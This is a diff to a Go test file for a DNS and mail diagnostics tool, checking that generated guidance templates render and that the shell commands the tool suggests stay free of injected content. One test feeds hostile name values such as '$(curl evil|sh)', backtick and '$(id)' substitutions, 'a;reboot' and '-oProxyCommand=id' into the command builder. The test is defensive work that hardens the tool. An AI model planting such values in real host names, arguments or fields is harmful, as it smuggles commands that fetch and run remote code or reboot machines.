@@ -1,16 +1,21 @@
 package diagnose
 
 import (
+	"fmt"
+	"net/netip"
+	"regexp"
 	"strings"
 	"testing"
 	"text/template"
+
+	"github.com/miekg/dns"
 )
 
 // Every template in the guidance table executes against stepData, so a
 // typo in a field name fails here rather than showing raw braces to a user.
 func TestGuidanceTemplates(t *testing.T) {
 	data := stepData{IP: "2001:db8::5", Rev: "5.0.ip6.arpa", Zone: "8.b.d.0.1.0.0.2.ip6.arpa", Name: "mail.example.com",
-		AddrType: "AAAA", Provider: "Example", HowTo: "Click.", IPv6: true, Servers: []string{"ns1.example.net"}, Stale: 60}
+		AddrType: "AAAA", Provider: "Example", HowTo: "Click.", Alt: "mx.example.org", IPv6: true, Servers: []string{"ns1.example.net"}, Stale: 60}
 	for i, rule := range guidanceTable {
 		for _, text := range append([]string{rule.text}, rule.commands...) {
 			tmpl := template.Must(template.New("").Option("missingkey=error").Parse(text))
@@ -38,6 +43,9 @@ func TestGuidanceRuleSelection(t *testing.T) {
 		{[]Code{CodeDNSError}, StatusTemperror, false, 2},                   // retry, verify
 		{[]Code{CodeDNSError}, StatusPass, false, 1},                        // an authoritative hiccup needs no retry step
 		{[]Code{CodeHELOMismatch, CodeSPFMisaligned}, StatusPass, false, 2}, // one alignment step
+		{[]Code{CodeGenericPTR}, StatusPass, false, 2},                      // a name of one's own, verify
+		{[]Code{CodeGenericPTR}, StatusFail, false, 3},                      // forward record, PTR, verify
+		{[]Code{CodeSourceChanged, CodeNoPTR}, StatusPermerror, false, 4},   // the source's new data, forward record, PTR, verify
 	} {
 		has := map[Code]bool{}
 		for _, c := range tc.has {
@@ -51,6 +59,64 @@ func TestGuidanceRuleSelection(t *testing.T) {
 		}
 		if n != tc.want {
 			t.Errorf("%v %s ipv6=%v: %d steps, want %d", tc.has, tc.status, tc.ipv6, n, tc.want)
+		}
+	}
+}
+
+// Whoever runs a zone chooses its NS and PTR names, and whoever types a
+// command chooses the HELO: none of that may reach a shell command unless it
+// is a plain host name or an address. Every rule is made to fire.
+func TestGuidanceHostileNames(t *testing.T) {
+	d, err := New(Config{Resolver: "192.0.2.53:53"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	hostile := []string{"x`id`$(id)y.example.net.", "-oProxyCommand=id.example.net.", "a;reboot.example.net.", "$(curl evil|sh).example.", "a b.example.com.", "'\"\\.example.com."}
+	var servers []server
+	for i, n := range append(hostile, "ns1.example.net.") {
+		servers = append(servers, server{name: n, addr: fmt.Sprintf("192.0.2.%d:53", i+1)})
+	}
+	var all []Finding
+	for _, rule := range guidanceTable {
+		for _, c := range rule.on {
+			all = append(all, Finding{Code: c})
+		}
+	}
+	safe := regexp.MustCompile(`^[A-Za-z0-9 ./:=@&+_-]+$`)
+	for _, ip := range []string{"203.0.113.5", "2001:db8::5"} {
+		for _, status := range []Status{StatusPass, StatusFail, StatusPermerror, StatusTemperror} {
+			a := netip.MustParseAddr(ip)
+			rev, _ := dns.ReverseAddr(ip)
+			f := &facts{ip: a, rev: rev, names: hostile, srcNames: hostile, rz: zoneInfo{name: "113.0.203.in-addr.arpa.", servers: servers}}
+			r := &Result{IP: ip, Status: status, Findings: all, ReverseZone: "x`id`.in-addr.arpa", Provider: &Provider{Name: "$(id)", HowTo: "`id`"},
+				Source: &SourceCheck{StaleForSeconds: 60}}
+			steps := d.guidance(f, r, Options{HELO: "mail.example.com;id"})
+			var cmds []string
+			for _, s := range steps {
+				cmds = append(cmds, s.Commands...)
+			}
+			for _, c := range cmds {
+				if !safe.MatchString(c) || strings.Contains(c, " -o") {
+					t.Errorf("%s %s: unsafe command %q", ip, status, c)
+				}
+			}
+			joined := strings.Join(cmds, "\n")
+			if status == StatusTemperror && (!strings.Contains(joined, "dig @ns1.example.net ") || !strings.Contains(joined, "dig @192.0.2.1 ") ||
+				!strings.Contains(joined, "dig @192.0.2.2 ")) {
+				t.Errorf("%s: servers with hostile names are not asked by address, or ns1 by name:\n%s", ip, joined)
+			}
+		}
+	}
+}
+
+func TestCommandHost(t *testing.T) {
+	for s, want := range map[string]bool{
+		"ns1.example.net": true, "NS-1.Example.NET": true, "192.0.2.1": true, "2001:db8::53": true,
+		"ns1": false, "-oProxyCommand=x.example": false, "x`id`.example": false, "$(id).example": false, "a b.example": false,
+		"ns1.example.net;id": false, "fe80::1%eth0": false, "": false, "a..example": false, "ns_1.example.net": false,
+	} {
+		if got := commandHost(s); got != want {
+			t.Errorf("commandHost(%q) = %v, want %v", s, got, want)
 		}
 	}
 }
